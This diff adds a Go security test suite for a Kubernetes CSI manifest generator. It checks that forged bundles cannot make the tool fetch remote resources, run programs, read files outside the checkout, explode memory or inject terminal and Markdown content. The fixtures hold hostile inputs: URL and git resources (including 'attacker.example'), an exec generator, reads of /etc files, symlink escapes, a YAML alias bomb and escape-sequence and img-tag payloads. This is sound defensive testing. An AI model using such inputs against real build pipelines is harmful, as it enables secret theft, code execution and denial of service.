@@ -1,0 +1,535 @@
+package pullrequest
+
+import (
+	"bytes"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"runtime"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+	"unicode"
+
+	"github.com/cinder-csi/cinder-csi/generator/cli"
+	"github.com/cinder-csi/cinder-csi/generator/v1alpha1"
+	"github.com/cinder-csi/cinder-csi/generator/worktree"
+)
+
+// The author of the hostile pull request writes every file of the checkout that a pipeline runs the generator on. The author also
+// recomputes the sums in plan.yaml, which are not a signature.
+
+const manifests = "../../../../manifests"
+
+// pipeline runs one command line of the generator as a pipeline does, without a cloud. It returns the output that a person would see.
+func pipeline(t *testing.T, args ...string) (stdout, stderr string, code int) {
+	t.Helper()
+	var out, messages bytes.Buffer
+	w := cli.World{
+		Stdin: &bytes.Buffer{}, Stdout: &out, Stderr: &messages, Env: func(string) string { return "" }, Version: "v0-attack",
+		Open: func(name string) (io.ReadCloser, error) { return os.Open(name) },
+	}
+	code = cli.Run(t.Context(), w, args)
+	return out.String(), messages.String(), code
+}
+
+// bundle is a generated bundle that belongs to the attacker.
+func bundle(t *testing.T, dir, target, format string, more ...string) string {
+	t.Helper()
+	args := append([]string{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", target, "--format", format, "--output-dir", dir}, more...)
+	if _, stderr, code := pipeline(t, args...); code != cli.OK {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	return dir
+}
+
+// bundles are the generated bundles by target and format.
+var bundles = map[string]map[string][]byte{}
+
+// bundleOf generates a bundle with the defaults, once for each target and format.
+func bundleOf(t *testing.T, target, format string) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "out")
+	tree, made := bundles[target+format]
+	if !made {
+		bundle(t, dir, target, format)
+		opened, err := worktree.Open(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if tree, err = opened.Read(); err != nil {
+			t.Fatal(err)
+		}
+		if tree[worktree.PlanFile], err = os.ReadFile(filepath.Join(dir, worktree.PlanFile)); err != nil {
+			t.Fatal(err)
+		}
+		bundles[target+format] = tree
+		return dir
+	}
+	for name, text := range tree {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, text, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// forge replaces files of a bundle, adds new ones, and corrects plan.yaml to match.
+func forge(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for name, text := range files {
+		path := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	old, err := worktree.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := *old.Plan
+	for name := range files {
+		if !slices.ContainsFunc(p.Files, func(f v1alpha1.File) bool { return f.Path == name }) {
+			p.Files = append(p.Files, v1alpha1.File{Path: name})
+		}
+	}
+	tree := map[string][]byte{}
+	for _, f := range p.Files {
+		if tree[f.Path], err = os.ReadFile(filepath.Join(dir, filepath.FromSlash(f.Path))); err != nil {
+			t.Fatal(err)
+		}
+	}
+	p.Files = worktree.Files(tree)
+	text, err := worktree.PlanText(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, worktree.PlanFile), text, 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// outside detects what a bundle must not cause: a request, or the start of a program.
+type outside struct {
+	url      string
+	requests atomic.Int64
+	ran      string // exists once git, helm or a shell has run
+}
+
+func watchOutside(t *testing.T) *outside {
+	t.Helper()
+	o := &outside{}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		o.requests.Add(1)
+		_, _ = io.WriteString(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched, namespace: default}\n")
+	}))
+	t.Cleanup(server.Close)
+	o.url = server.URL
+	programs := t.TempDir()
+	o.ran = filepath.Join(t.TempDir(), "ran")
+	for _, name := range []string{"git", "helm", "sh", "bash", "attacker"} {
+		script := "#!/bin/sh\necho " + name + " \"$@\" >> " + o.ran + "\nexit 1\n"
+		if err := os.WriteFile(filepath.Join(programs, name), []byte(script), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("PATH", programs)
+	return o
+}
+
+func (o *outside) check(t *testing.T) {
+	t.Helper()
+	if n := o.requests.Load(); n > 0 {
+		t.Errorf("the command sent %d requests", n)
+	}
+	if ran, err := os.ReadFile(o.ran); err == nil {
+		t.Errorf("the command ran %s", ran)
+	}
+}
+
+const header = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
+
+// M8: commands that build a directory fetched what its kustomizations name, and ran git for it.
+func TestABundleCannotMakeValidateFetchRunOrReadAnything(t *testing.T) {
+	o := watchOutside(t)
+	elsewhere := t.TempDir()
+	for name, text := range map[string]string{
+		"kustomization.yaml": header + "resources: [secret.yaml]\n",
+		"secret.yaml":        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: stolen, namespace: default}\ndata: {a: s3cret}\n",
+	} {
+		if err := os.WriteFile(filepath.Join(elsewhere, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	generator := "apiVersion: x/v1\nkind: X\nmetadata:\n  name: x\n  annotations: {config.kubernetes.io/function: \"exec: {path: attacker}\"}\n"
+	for name, text := range map[string]string{
+		"resource by URL":              "resources: [" + o.url + "/x.yaml]\n",
+		"resource by URL in a name":    "resources: [\"" + o.url + "/x.yaml?ref=.yaml\"]\n",
+		"repository":                   "resources: [\"git::" + o.url + "/x.git//y?ref=main\"]\n",
+		"repository over SSH":          "resources: [\"git@attacker.example:x/y.git\"]\n",
+		"repository without a scheme":  "resources: [github.com/x/y]\n",
+		"repository of files":          "resources: [\"file:///x/y.git//z\"]\n",
+		"component by URL":             "components: [\"" + o.url + "/x/y?ref=main\"]\n",
+		"base by URL":                  "bases: [\"" + o.url + "/x/y?ref=main\"]\n",
+		"patch by URL":                 "resources: [own.yaml]\npatches: [{path: " + o.url + "/x.yaml}]\n",
+		"old patch by URL":             "resources: [own.yaml]\npatchesStrategicMerge: [" + o.url + "/x.yaml]\n",
+		"old JSON patch by URL":        "resources: [own.yaml]\npatchesJson6902: [{path: " + o.url + "/x.yaml, target: {version: v1, kind: ConfigMap, name: x}}]\n",
+		"transformer by URL":           "transformers: [" + o.url + "/x.yaml]\n",
+		"validator by URL":             "validators: [" + o.url + "/x.yaml]\n",
+		"generator by URL":             "generators: [" + o.url + "/x.yaml]\n",
+		"generator that is a program":  "generators: [generator.yaml]\n",
+		"generator of files":           "configMapGenerator: [{name: x, namespace: default, files: [\"/etc/hostname\"]}]\n",
+		"generator of files by URL":    "configMapGenerator: [{name: x, namespace: default, files: [\"a=" + o.url + "/x\"]}]\n",
+		"generator of secrets":         "secretGenerator: [{name: x, envs: [/etc/environment]}]\n",
+		"configuration by URL":         "configurations: [" + o.url + "/x.yaml]\n",
+		"OpenAPI by URL":               "openapi: {path: " + o.url + "/x.json}\n",
+		"CRD by URL":                   "crds: [" + o.url + "/x.yaml]\n",
+		"replacement by URL":           "replacements: [{path: " + o.url + "/x.yaml}]\n",
+		"chart":                        "helmCharts: [{name: x, repo: " + o.url + "}]\n",
+		"old chart":                    "helmChartInflationGenerator: [{chartName: x, chartRepoUrl: " + o.url + "}]\n",
+		"directory elsewhere":          "resources: [../../../../../../../../../.." + elsewhere + "]\n",
+		"absolute directory":           "resources: [" + elsewhere + "]\n",
+		"file elsewhere":               "resources: [../" + filepath.Base(elsewhere) + "/secret.yaml]\n",
+		"names made of others' fields": "vars: [{name: X, objref: {kind: ConfigMap, name: x, apiVersion: v1}}]\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := bundleOf(t, "vanilla", "kustomize")
+			forge(t, dir, map[string]string{
+				"kustomization.yaml": header + text,
+				"own.yaml":           "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: default}\n",
+				"generator.yaml":     generator,
+				// kustomize treats this directory as a repository.
+				"github.com/x/y/kustomization.yaml": header,
+			})
+			for _, args := range [][]string{{"validate", dir}, {"explain", "configmap/stolen", "data", dir}} {
+				stdout, stderr, code := pipeline(t, args...)
+				if code != cli.Failure || !strings.Contains(stderr, "kustomization.yaml: ") || strings.Contains(stdout+stderr, "s3cret") {
+					t.Errorf("%s: want exit 1 that names the file, got %d: %s%s", args[0], code, stdout, stderr)
+				}
+			}
+			o.check(t)
+		})
+	}
+}
+
+// The attacker also writes the checkout of manifests/ beside a bundle.
+func TestACheckoutOfTheBaseCannotMakeTheGeneratorFetchRunOrReadAnything(t *testing.T) {
+	o := watchOutside(t)
+	checkout := t.TempDir()
+	if err := os.CopyFS(filepath.Join(checkout, "src"), os.DirFS(manifests)); err != nil {
+		t.Fatal(err)
+	}
+	dir := bundle(t, filepath.Join(checkout, "out"), "vanilla", "kustomize", "--base", "../src")
+	if _, stderr, code := pipeline(t, "validate", dir, "--base", "../src"); code != cli.OK {
+		t.Fatalf("before the attack: exit %d: %s", code, stderr)
+	}
+	for name, attack := range map[string]func() error{
+		"a URL": func() error {
+			return os.WriteFile(filepath.Join(checkout, "src/base/csidriver/kustomization.yaml"), []byte(header+"resources: ["+o.url+"/x.yaml]\n"), 0o644)
+		},
+		"a link": func() error {
+			path := filepath.Join(checkout, "src/base/csidriver/csidriver.yaml")
+			if err := os.Remove(path); err != nil {
+				return err
+			}
+			return os.Symlink("/etc/hostname", path)
+		},
+	} {
+		if err := attack(); err != nil {
+			t.Fatal(err)
+		}
+		for _, args := range [][]string{
+			{"validate", dir, "--base", "../src"},
+			{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "kustomize", "--output-dir", dir, "--base", "../src"},
+		} {
+			if _, stderr, code := pipeline(t, args...); code != cli.Failure {
+				t.Errorf("%s, %s: want exit 1, got %d: %s", name, args[0], code, stderr)
+			}
+		}
+	}
+	o.check(t)
+}
+
+// bounded runs code that must end soon and allocate little.
+func bounded(t *testing.T, run func()) {
+	t.Helper()
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	began := time.Now()
+	run()
+	runtime.ReadMemStats(&after)
+	if used := (after.TotalAlloc - before.TotalAlloc) >> 20; used > 512 {
+		t.Errorf("allocated %d MiB", used)
+	}
+	if took := time.Since(began); took > 10*time.Second {
+		t.Errorf("took %s", took)
+	}
+}
+
+// laughs is a document of nine lines that expands to a thousand million values.
+func laughs() string {
+	text := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
+	for c := 'b'; c <= 'i'; c++ {
+		before := "*" + string(c-1)
+		text += string(c) + ": &" + string(c) + " [" + before + strings.Repeat(","+before, 9) + "]\n"
+	}
+	return text
+}
+
+func TestDocumentsThatExplodeAreRefusedInTimeAndMemory(t *testing.T) {
+	object := "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: cinder-csi}\n"
+	copies := ""
+	for range 40 {
+		copies += "- {op: copy, from: /metadata, path: /metadata/x}\n"
+	}
+	for name, tc := range map[string]struct {
+		format string
+		files  map[string]string
+	}{
+		"aliases in a resource":   {"kustomize", map[string]string{"storageclasses.yaml": object + laughs()}},
+		"aliases in a patch":      {"kustomize", map[string]string{"driver/patches/controller.yaml": laughs()}},
+		"aliases beside a list":   {"kustomize", map[string]string{"kustomization.yaml": header + laughs()}},
+		"a patch that copies":     {"kustomize", map[string]string{"driver/patches/controller-config.yaml": copies}},
+		"aliases in values":       {"helm", map[string]string{"values.yaml": laughs()}},
+		"aliases in namespaces":   {"helm", map[string]string{"namespace.yaml": object + laughs()}},
+		"a file that is too long": {"helm", map[string]string{"values.yaml": strings.Repeat("#", 17<<20)}},
+		"brackets without end":    {"helm", map[string]string{"values.yaml": "x: " + strings.Repeat("[", 1<<20)}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := bundleOf(t, "vanilla", tc.format)
+			forge(t, dir, tc.files)
+			bounded(t, func() {
+				if _, stderr, code := pipeline(t, "validate", dir); code != cli.Failure || len(stderr) > 4096 {
+					t.Errorf("want exit 1 and a short message, got %d: %.500s", code, stderr)
+				}
+			})
+		})
+	}
+	inventory, err := os.ReadFile("../../../../overlays/inventory.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	files := t.TempDir()
+	for name, text := range map[string]string{
+		"aliases": laughs(), "long": strings.Repeat("# x\n", 2<<20), "brackets": strings.Repeat("[", 1<<20),
+		"aliases in a known key": "spec: {topology: {zoneMap: *i}}\n" + laughs(), "inventory": string(inventory) + laughs(),
+	} {
+		path := filepath.Join(files, name)
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		generate(t, path)
+	}
+	endless := filepath.Join(files, "endless")
+	if err := os.Symlink("/dev/zero", endless); err != nil {
+		t.Fatal(err)
+	}
+	generate(t, endless)
+}
+
+// generate passes a file as configuration and as inventory; the generator refuses both.
+func generate(t *testing.T, path string) {
+	t.Helper()
+	for _, args := range [][]string{
+		{"plan", "--target", "vanilla", "--inventory", "../../../../overlays/inventory.yaml", "--config", path},
+		{"plan", "--target", "vanilla", "--inventory", path},
+	} {
+		bounded(t, func() {
+			if _, stderr, code := pipeline(t, args...); code != cli.Usage || len(stderr) > 4096 {
+				t.Errorf("%v: want exit 64 and a short message, got %d: %.500s", args, code, stderr)
+			}
+		})
+	}
+}
+
+func TestALinkInTheCheckoutCannotMoveWhatIsWritten(t *testing.T) {
+	inventory, err := filepath.Abs("../../../../overlays/inventory.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	run := func(dir string) (string, int) {
+		_, stderr, code := pipeline(t, "generate", "--inventory", inventory, "--target", "vanilla", "--format", "kustomize", "--output-dir", dir)
+		return stderr, code
+	}
+	victim := t.TempDir()
+	t.Chdir(t.TempDir())
+	for _, d := range []string{"deploy", "inside", "real"} {
+		if err := os.Mkdir(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for link, to := range map[string]string{
+		"deploy/out": victim, "up": "..", "deploy/in": "../real", // out of the checkout; out of it by a relative path; within it
+		"inside/driver": victim, // a directory that the bundle would create
+	} {
+		if err := os.Symlink(to, link); err != nil {
+			t.Fatal(err)
+		}
+	}
+	here, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, dir := range []string{"deploy/out", filepath.Join(here, "deploy/out"), "deploy/out/below", "up", "inside"} {
+		if stderr, code := run(dir); code != cli.Refused {
+			t.Errorf("%s: want exit 3, got %d: %s", dir, code, stderr)
+		}
+	}
+	if left, err := os.ReadDir(victim); err != nil || len(left) > 0 {
+		t.Errorf("the attack wrote %v %v", left, err)
+	}
+	if stderr, code := run("deploy/in"); code != cli.OK {
+		t.Errorf("a link within the checkout: want exit 0, got %d: %s", code, stderr)
+	}
+	if stderr, code := run(filepath.Join(victim, "named")); code != cli.OK {
+		t.Errorf("a directory that the caller names: want exit 0, got %d: %s", code, stderr)
+	}
+}
+
+func TestALinkInABundleCannotShowAnotherFile(t *testing.T) {
+	dir := bundleOf(t, "vanilla", "helm")
+	secret := filepath.Join(t.TempDir(), "secret")
+	if err := os.WriteFile(secret, []byte("s3cret: x\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(dir, "values.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(secret, filepath.Join(dir, "values.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{
+		{"validate", dir},
+		{"explain", "configmap/cinder-csi-controller-settings", "data", dir},
+		{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "helm", "--output-dir", dir, "--diff"},
+	} {
+		stdout, stderr, code := pipeline(t, args...)
+		if code == cli.OK || strings.Contains(stdout+stderr, "s3cret") {
+			t.Errorf("%s: want a failure without the file's content, got %d: %s%s", args[0], code, stdout, stderr)
+		}
+	}
+}
+
+func TestFileNamesOfAPlanCannotLeaveTheDirectoryOrSteerATerminal(t *testing.T) {
+	for _, name := range []string{"../x", "/etc/hostname", "a/../../x", "a\x1b[2Jb", "a\nb", "a\u202eb", `a\b`, "", ".", "plan.yaml"} {
+		dir := bundleOf(t, "vanilla", "helm")
+		opened, err := worktree.Open(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		opened.Plan.Files = append(opened.Plan.Files, v1alpha1.File{Path: name})
+		text, err := worktree.PlanText(*opened.Plan)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, worktree.PlanFile), text, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		_, stderr, code := pipeline(t, "validate", dir)
+		if code != cli.Failure || !strings.Contains(stderr, "which is no file below the directory") || steers(stderr) {
+			t.Errorf("%q: want exit 1 and a harmless message, got %d: %q", name, code, stderr)
+		}
+	}
+}
+
+// steers reports whether a text has characters that control a terminal.
+func steers(text string) bool {
+	return strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && r != '\t' && !unicode.IsPrint(r) })
+}
+
+// Names of a cloud, or of a file that claims to be its inventory, reach a terminal, a README and comments of a pull request.
+func TestNamesOfACloudCannotSteerATerminalOrAPage(t *testing.T) {
+	const evil = "\x1b]0;owned\x07\u009b2J\u202e\r\n# heading\t<img src=http://attacker.example/x>[x](http://attacker.example)`|"
+	const words = "\u202e <img src=http://attacker.example/x>[x](http://attacker.example)`|"
+	poison := func(inv *v1alpha1.Inventory) {
+		inv.Cloud.Region, inv.Cloud.ProjectID = words, evil
+		for i := range inv.VolumeTypes.Value {
+			v := &inv.VolumeTypes.Value[i]
+			v.Name += []string{evil, words, "${X}", "\u009b", "PRIVATE KEY", ""}[i%6]
+			v.Description = evil
+			v.Zones = append(v.Zones, evil, "az1")
+			v.Encryption.Value.Provider = evil
+		}
+		inv.DefaultVolumeType.Value += evil
+		inv.Zones.Compute.Value[0].Name += evil
+		inv.Zones.Volume.Value[0].Name += evil
+		inv.Quota.State, inv.Quota.Reason = v1alpha1.Denied, evil
+		for name, s := range inv.Services.Value {
+			s.MaxMicroversion += evil
+			inv.Services.Value[name] = s
+		}
+	}
+	content, err := os.ReadFile("../../../../overlays/inventory.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	inv, err := v1alpha1.DecodeInventory("inventory.yaml", content)
+	if err != nil {
+		t.Fatal(err)
+	}
+	poison(&inv)
+	if content, err = v1alpha1.YAML(inv); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "inventory.yaml")
+	if err := os.WriteFile(path, content, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(t.TempDir(), "out")
+	for _, args := range [][]string{
+		{"inspect", "--inventory", path},
+		{"inspect", "--inventory", path, "-o", "yaml"},
+		{"inspect", "--inventory", path, "-o", "json"},
+		{"plan", "--inventory", path, "--target", "vanilla"},
+		{"plan", "--inventory", path, "--target", "vanilla", "-o", "yaml"},
+		{"generate", "--inventory", path, "--target", "vanilla", "--format", "helm", "--output-dir", dir},
+		{"generate", "--inventory", path, "--target", "vanilla", "--format", "helm", "--output-dir", dir + "2", "--diff"},
+		{"validate", dir},
+		{"explain", "configmap/cinder-csi-controller-config", "data", dir},
+		{"explain", "storageclass/" + evil, evil, dir},
+		{"plan", "--inventory", evil, "--target", evil},
+	} {
+		stdout, stderr, code := pipeline(t, args...)
+		if code != cli.OK && args[0] == "generate" && !slices.Contains(args, "--diff") {
+			t.Fatalf("exit %d: %s", code, stderr)
+		}
+		for stream, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
+			data := slices.Contains(args, "-o") && stream == "stdout" // YAML and JSON for programs; no raw control character there either
+			if data && strings.ContainsAny(text, "\x1b\x07\r\u009b") || !data && steers(text) {
+				t.Errorf("%.40q: %s steers a terminal: %.300q", args, stream, text)
+			}
+		}
+	}
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		text, err := os.ReadFile(filepath.Join(dir, e.Name()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.ContainsAny(string(text), "\x1b\x07\r\u009b") {
+			t.Errorf("%s holds raw control characters", e.Name())
+		}
+		if e.Name() != "README.md" {
+			continue
+		}
+		marked := regexp.MustCompile("`[^`\n]*`").ReplaceAllString(string(text), "") // between backquotes Markdown interprets nothing
+		if steers(string(text)) || strings.Contains(marked, "<img") || strings.Contains(marked, "[x](") || strings.Contains(string(text), "\n# heading") {
+			t.Errorf("README.md is more than text:\n%s", text)
+		}
+	}
+}
